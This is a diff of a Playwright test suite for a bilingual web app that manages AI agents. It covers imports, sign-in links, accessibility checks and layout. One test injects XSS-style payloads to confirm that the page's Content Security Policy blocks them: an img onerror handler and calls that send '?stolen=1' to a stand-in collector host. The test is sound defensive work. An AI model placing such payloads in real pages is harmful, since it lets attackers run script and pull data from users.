@@ -157,16 +157,22 @@ def test_what_an_agent_writes_is_shown_and_does_nothing(arrive: Arrive) -> None:
     assert guest.page.evaluate("window.pwned") is None
 
 
-def test_the_policy_stops_a_script_that_gets_into_the_page_all_the_same(arrive: Arrive) -> None:
+def test_the_policy_stops_what_gets_into_the_page_all_the_same(arrive: Arrive) -> None:
     guest = arrive()
     guest.open()
-    guest.page.evaluate("document.body.append(Object.assign(document.createElement('script'), {text: 'pwned = 1'}))")
-    guest.page.evaluate("() => { try { document.body.innerHTML = '<b>x</b>' } catch (error) {} }")
+    for attempt in (
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.pwned=1>')",
+        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.pwned = 1'}))",
+        "document.body.setAttribute('style', 'display: none')",
+        "document.body.append(Object.assign(new Image(), {src: 'https://collector.example.com/?stolen=1'}))",
+        "fetch('https://collector.example.com/?stolen=1').catch(() => {})",
+    ):
+        guest.page.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{}} }}")
+    guest.page.wait_for_function("window.violations.length >= 5")
+    stopped = {violation.split()[0] for violation in guest.violations()}
+    assert stopped == {"require-trusted-types-for", "style-src-attr", "img-src", "connect-src"}
     assert guest.page.evaluate("window.pwned") is None
-    assert {violation.split()[0] for violation in guest.violations()} == {
-        "script-src-elem",
-        "require-trusted-types-for",
-    }
+    guest.elsewhere.clear()
 
 
 def test_it_speaks_korean_and_english_and_remembers_which(arrive: Arrive) -> None:
@@ -184,8 +190,8 @@ def test_it_speaks_korean_and_english_and_remembers_which(arrive: Arrive) -> Non
 def test_a_template_fills_the_form_and_mistakes_are_shown_at_their_fields(arrive: Arrive) -> None:
     guest = arrive()
     guest.enter()
-    guest.page.get_by_role("link", name="CSV 요약: 이 예시로 시작").click()
-    expect(guest.page.locator("#field-name")).to_have_value("CSV 요약")
+    guest.page.get_by_role("link", name="주간 매출 요약: 이 예시로 시작").click()
+    expect(guest.page.locator("#field-name")).to_have_value("주간 매출 요약")
     guest.page.locator("#field-name").fill(" ")
     guest.page.locator("#field-hosts").fill("*")
     guest.page.get_by_role("button", name="저장").click()
@@ -246,16 +252,21 @@ def test_an_exported_agent_is_imported_again(arrive: Arrive, tmp_path: Path) -> 
     guest.make_agent("내보낼 것", "해 줘")
     with guest.page.expect_download() as download:
         guest.page.get_by_role("link", name="파일로 내보내기").click()
+    text = Path(download.value.path()).read_text(encoding="utf-8")
     file = tmp_path / "agent.md"
-    file.write_bytes(Path(download.value.path()).read_bytes().replace("내보낼 것".encode(), "가져온 것".encode()))
+    file.write_text(text, encoding="utf-8")
     guest.open("#/agents")
+    guest.page.get_by_label("파일로 가져오기").set_input_files(file)
+    expect(guest.page.get_by_role("alert")).to_contain_text("요청 번호")
+    renamed = re.sub(r"^name: .*", "name: another", text, flags=re.MULTILINE).replace("내보낼 것", "가져온 것")
+    file.write_text(renamed, encoding="utf-8")
     guest.page.get_by_label("파일로 가져오기").set_input_files(file)
     expect(guest.page.get_by_role("heading", level=1)).to_have_text("가져온 것")
     expect(guest.page.get_by_text("일시정지")).to_be_visible()
 
 
 def test_a_sign_in_link_works_once_and_does_not_stay_in_the_address(arrive: Arrive, house: PlatformProcess) -> None:
-    link = house.signin_link()
+    link = house.ask("POST", "/api/auth/links")["url"]
     owner = arrive()
     owner.page.goto(link)
     expect(owner.page.get_by_role("heading", level=1)).to_have_text("내 에이전트")
@@ -279,24 +290,33 @@ def test_signing_out_ends_the_session(arrive: Arrive) -> None:
 def test_nothing_stands_in_the_way_of_anybody(arrive: Arrive, scheme: str) -> None:
     """axe-core, WCAG 2.2 A and AA, on every kind of page."""
     guest = arrive(scheme=scheme)
+    seen = 0
+
+    def check() -> None:
+        nonlocal seen
+        seen += 1
+        guest.picture(f"{scheme}-{seen}")
+        assert guest.accessibility() == []
+
     guest.open()
     expect(guest.page.get_by_role("button", name="게스트로 체험")).to_be_visible()
-    assert guest.accessibility() == []
+    check()
     guest.enter()
-    assert guest.accessibility() == []
+    expect(guest.page.get_by_text("아직 에이전트가 없습니다")).to_be_visible()
+    check()
     guest.open("#/new")
     guest.page.get_by_role("button", name="저장").click()
     expect(guest.page.locator("#wrong-name")).to_be_visible()
-    assert guest.accessibility() == []
+    check()
     guest.make_agent("보고", scripted({"tool": "Bash", "input": {"command": "ls"}}, {"text": REPORT}))
-    assert guest.accessibility() == []
+    check()
     guest.run()
     guest.until("succeeded")
     guest.page.locator(".step.tool summary").click()
-    assert guest.accessibility() == []
+    check()
     guest.open("#/agents")
     expect(guest.page.get_by_role("article")).to_be_visible()
-    assert guest.accessibility() == []
+    check()
 
 
 def test_axe_finds_what_is_wrong(arrive: Arrive) -> None:
@@ -308,7 +328,7 @@ def test_axe_finds_what_is_wrong(arrive: Arrive) -> None:
 
 
 def test_a_narrow_screen_never_scrolls_sideways(arrive: Arrive) -> None:
-    guest = arrive(width=390)
+    guest = arrive(locale="en-US", scheme="dark", width=390)
     guest.enter()
     long = "긴이름" * 20
     guest.make_agent(long, scripted({"tool": "Bash", "input": {"command": "echo " + "x" * 400}}, {"text": "y" * 500}))
@@ -319,6 +339,7 @@ def test_a_narrow_screen_never_scrolls_sideways(arrive: Arrive) -> None:
     for place in places:
         guest.open(place)
         expect(guest.page.get_by_role("heading", level=1)).to_be_visible()
+        guest.picture(f"narrow-{places.index(place)}")
         assert guest.page.evaluate("document.documentElement.scrollWidth") == 390, place
 
 
